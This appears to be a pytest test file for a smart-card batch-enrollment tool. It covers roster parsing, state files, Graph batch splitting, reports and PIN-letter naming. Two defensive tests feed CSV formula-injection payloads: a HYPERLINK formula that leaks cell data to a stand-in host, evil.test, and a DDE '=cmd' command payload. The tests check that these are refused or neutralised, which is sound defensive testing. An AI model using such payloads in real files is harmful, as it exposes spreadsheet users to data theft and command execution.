"""Batch enrollment pieces that need no card: roster parsing, state file, lock, Graph
$batch splitting, reports, secret policy."""

from __future__ import annotations

import json
import stat
from pathlib import Path
from typing import Any

import pytest

from pivtool.core.errors import UsageError
from pivtool.core.fileio import atomic_write
from pivtool.piv.constants import KeyType
from pivtool.workflows.batch import (
    GRAPH_BATCH_LIMIT,
    BatchPaths,
    BatchState,
    SecretPolicy,
    graph_batches,
    read_pin_letter,
    report_csv,
    state_lock,
    write_pin_letter,
    write_reports,
)
from pivtool.workflows.batch.state import CertRecord
from pivtool.workflows.roster import RosterDefaults, parse_roster


def test_roster_rows_and_errors() -> None:
    text = "\n".join([
        "\ufeffUPN,E-mail,Display Name,Serial,Algorithm,Policies,PIN policy",
        "# a comment row",
        "alice@contoso.com,alice@contoso.com;a.doe@contoso.com,\"Doe, Alice\",,,,",
        "",
        "bob@contoso.com,,,12345678,rsa2048,1.2.3.4;1.2.3.5,once",
        "carol,,,,,,",
        "dave@contoso.com,,,x12,,,",
        "erin@contoso.com,,,,rsa4096,,",
        "ALICE@contoso.com,,,,,,",
        "frank@contoso.com,,,12345678,,,",
        "gina@contoso.com,,,,,,,extra",
    ])
    rows = parse_roster(text.removeprefix("\ufeff"), RosterDefaults(policies=["1.9.9"]))
    by_line = {r.row: r for r in rows}
    alice = by_line[3]
    assert alice.error is None and alice.emails == ["alice@contoso.com", "a.doe@contoso.com"]
    assert alice.subject == "CN=Doe\\, Alice" and alice.policies == ["1.9.9"]
    bob = by_line[5]
    assert bob.error is None and bob.serial == 12345678 and bob.algorithm is KeyType.RSA2048
    assert bob.policies == ["1.2.3.4", "1.2.3.5"] and bob.pin_policy.label == "once"
    errors = {r.row: r.error for r in rows if r.error}
    assert set(errors) == {6, 7, 8, 9, 10, 11}
    assert all(e.startswith(f"row {n}:") for n, e in errors.items())
    assert "not a number" in errors[7]
    assert "iOS" in errors[8]
    assert "duplicate UPN" in errors[9] and "row 3" in errors[9]
    assert "already pinned" in errors[10]
    assert "cells" in errors[11]


@pytest.mark.parametrize("text, message", [
    ("", "empty"),
    ("upn,serail\nalice@contoso.com,1\n", "unknown column 'serail'"),
    ("email\nalice@contoso.com\n", "no upn column"),
    ("upn,upn\n", "twice"),
])
def test_roster_bad_header(text: str, message: str) -> None:
    with pytest.raises(UsageError, match=message):
        parse_roster(text)


def _state(tmp_path: Path, n: int) -> BatchState:
    rows = parse_roster("upn\n" + "\n".join(f"user{i}@contoso.com" for i in range(n)))
    state = BatchState.load(tmp_path / "b.state.json")
    state.merge_roster("r.csv", rows)
    for i, user in enumerate(state.users.values()):
        user.status, user.serial, user.certificate = "done", 1000 + i, CertRecord("ab" * 32)
        user.certificate_user_ids = [
            {"kind": "PrincipalName", "value": f"X509:<PN>{user.upn}", "affinity": "low"},
            {"kind": "Subject", "value": "X509:<S>CN=x", "affinity": "low"},
            {"kind": "SKI", "value": f"X509:<SKI>{i:040x}", "affinity": "high"}]
    return state


def test_graph_batches_split_at_20(tmp_path: Path) -> None:
    state = _state(tmp_path, 45)
    bodies = graph_batches(state)
    assert [len(b["requests"]) for b in bodies] == [20, 20, 5]
    assert GRAPH_BATCH_LIMIT == 20
    first = bodies[0]["requests"][0]
    assert first == {
        "id": "1", "method": "PATCH", "url": "/users/user0@contoso.com",
        "headers": {"Content-Type": "application/json"},
        # High affinity first, then the UPN; the low-affinity Subject is left out.
        "body": {"authorizationInfo": {"certificateUserIds": [
            f"X509:<SKI>{0:040x}", "X509:<PN>user0@contoso.com"]}}}
    assert [r["id"] for r in bodies[1]["requests"]] == [str(i) for i in range(1, 21)]
    paths = BatchPaths.derive(tmp_path / "b.state.json")
    written = write_reports(state, paths)
    assert [p.name for p in written] == ["b.report.json", "b.report.csv",
                                        "b.graph-001.json", "b.graph-002.json",
                                        "b.graph-003.json"]
    # A later, shorter run removes the stale third file.
    for user in list(state.users.values())[30:]:
        user.status = "pending"
    write_reports(state, paths)
    assert not (tmp_path / "b.graph-003.json").exists()
    assert report_csv(state).splitlines()[0].startswith("row,upn,status,serial")


def test_state_roundtrip_marks_interrupted_enrollments(tmp_path: Path) -> None:
    state = _state(tmp_path, 2)
    user = state.users["user1@contoso.com"]
    user.status, user.last_step = "enrolling", "generate key"
    state.save()
    assert stat.S_IMODE((tmp_path / "b.state.json").stat().st_mode) == 0o600
    again = BatchState.load(tmp_path / "b.state.json")
    assert again.users["user1@contoso.com"].status == "incomplete"
    assert again.bound_to(1001) is again.users["user1@contoso.com"]
    # A roster re-read adds new users and forgets nothing.
    again.merge_roster("r.csv", parse_roster("upn\nnew@contoso.com\nuser0@contoso.com\n"))
    assert again.users["new@contoso.com"].status == "pending"
    assert again.users["user1@contoso.com"].in_roster is False
    assert again.next_pending(1) is again.users["new@contoso.com"]
    with pytest.raises(UsageError, match="not a pivtool batch state"):
        (tmp_path / "x.json").write_text(json.dumps({"schema": "other"}))
        BatchState.load(tmp_path / "x.json")


def test_pinned_user_only_for_its_key(tmp_path: Path) -> None:
    state = BatchState.load(tmp_path / "s.json")
    state.merge_roster("r", parse_roster("upn,serial\na@contoso.com,77\nb@contoso.com,\n"))
    assert state.next_pending(5).upn == "b@contoso.com"  # type: ignore[union-attr]
    assert state.next_pending(77).upn == "a@contoso.com"  # type: ignore[union-attr]


def test_second_batch_on_the_same_state_is_refused(tmp_path: Path) -> None:
    paths = BatchPaths.derive(tmp_path / "b.state.json")
    with state_lock(paths), pytest.raises(UsageError, match="another batch is running"), \
            state_lock(paths):
        pass
    with state_lock(paths):  # released
        pass


def test_paths_defaults(tmp_path: Path) -> None:
    p = BatchPaths.derive(tmp_path / "hr.state.json", report=tmp_path / "out.csv")
    assert p.audit.name == "hr.audit.jsonl" and p.report.name == "out"
    assert p.graph.name == "hr.graph" and p.lock.name == "hr.state.json.lock"


def test_pin_letter_roundtrip(tmp_path: Path) -> None:
    path = write_pin_letter(tmp_path, "a/b@contoso.com", 42, b"13572468")
    assert path.name == "a%2Fb@contoso.com.txt"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert read_pin_letter(tmp_path, "a/b@contoso.com") == b"13572468"
    assert read_pin_letter(tmp_path, "nobody@contoso.com") is None
    # Plain UPNs keep their readable name (letters of earlier runs are still found).
    assert write_pin_letter(tmp_path, "a.b-c_d@contoso.com", 1, b"1").name == \
        "a.b-c_d@contoso.com.txt"


def test_pin_letter_names_are_injective(tmp_path: Path) -> None:
    """Issue 16: a+b@, a_b@ and a/b@ all became a_b@contoso.com.txt, jörg@/jürg@ both
    j_rg@: one user's letter overwrote another's."""
    from pivtool.workflows.roster import pin_letter_name

    upns = ["a+b@contoso.com", "a_b@contoso.com", "a/b@contoso.com", "a%2Fb@contoso.com",
            "jörg@contoso.com", "jürg@contoso.com", "a!b@contoso.com", "a#b@contoso.com"]
    names = [pin_letter_name(u) for u in upns]
    assert len(set(names)) == len(upns), names
    assert all("/" not in n and n.isascii() for n in names)
    for n, upn in enumerate(upns):
        write_pin_letter(tmp_path, upn, n, str(10000000 + n).encode())
    assert [read_pin_letter(tmp_path, u) for u in upns] == \
        [str(10000000 + n).encode() for n in range(len(upns))]


def test_roster_refuses_upns_no_directory_holds_and_letter_collisions() -> None:
    rows = parse_roster(
        "upn\n"
        '"=HYPERLINK(""http://evil.test/?x=""&A1;""x"")@contoso.com"\n'
        "+SUM(1+1)@contoso.com\n"
        "jörg@contoso.com\n"
        ".dot@contoso.com\n"
        "o'brien.x_y-z!a#b^c~d@contoso.com\n"
        "a+b@contoso.com\n")
    errors = {r.upn: r.error for r in rows}
    for bad in ('=HYPERLINK("http://evil.test/?x="&A1;"x")@contoso.com',
                "+SUM(1+1)@contoso.com", "jörg@contoso.com", ".dot@contoso.com",
                "a+b@contoso.com"):
        assert errors[bad] and "not one a directory holds" in errors[bad], (bad, errors)
    assert errors["o'brien.x_y-z!a#b^c~d@contoso.com"] is None


def test_report_csv_neutralises_formulas(tmp_path: Path) -> None:
    """A spreadsheet opening the report must not run anything from the roster or errors."""
    import csv
    import io

    state = _state(tmp_path, 2)
    (first, second) = state.users.values()
    first.error = "=cmd|' /C calc'!A0"
    second.error = "-2+3"
    state.doc["invalid_rows"] = [{"row": 9, "upn": "@SUM(A1)@contoso.com",
                                  "error": "\t=1+1"}]
    cells = [c for row in csv.reader(io.StringIO(report_csv(state))) for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'-2+3" in cells
    assert "'@SUM(A1)@contoso.com" in cells and "'\t=1+1" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_atomic_write_mode(tmp_path: Path) -> None:
    atomic_write(tmp_path / "f", b"x", 0o644)
    assert stat.S_IMODE((tmp_path / "f").stat().st_mode) == 0o644
    assert [p.name for p in tmp_path.iterdir()] == ["f"]


@pytest.mark.parametrize("kwargs, escrow, message", [
    ({}, None, "choose the users' PINs"),
    ({"pin_letters": Path("x"), "new_pin": b"12121212"}, None, "do not also"),
    ({"new_pin": b"12121212"}, None, "choose the PUKs"),
    ({"new_pin": b"123456", "new_puk": b"87654321"}, None, "factory default"),
    ({"new_pin": b"12", "new_puk": b"87654321"}, None, "PIN"),
])
def test_secret_policy(kwargs: dict[str, Any], escrow: Any, message: str) -> None:
    with pytest.raises(UsageError, match=message):
        SecretPolicy(**kwargs).check(escrow)
    assert "12121212" not in repr(SecretPolicy(new_pin=b"12121212"))


def test_typed_user_records_keep_the_state_file_format(tmp_path: Path) -> None:
    state = _state(tmp_path, 2)
    user = state.users["user0@contoso.com"]
    user.last_failed_step = "issue certificate"
    user.history.append({"serial": 1000, "reader": "r", "last_step": None, "error": "x",
                         "ended": None})
    state.save()
    written = json.loads((tmp_path / "b.state.json").read_text())
    again = BatchState.load(tmp_path / "b.state.json")
    again.save()
    assert json.loads((tmp_path / "b.state.json").read_text())["users"] == written["users"]
    first = written["users"]["user0@contoso.com"]
    assert list(first)[:5] == ["upn", "row", "options", "in_roster", "status"]
    assert first["certificate"]["sha256"] == "ab" * 32
    assert first["last_failed_step"] == "issue certificate"
    assert "last_failed_step" not in written["users"]["user1@contoso.com"]
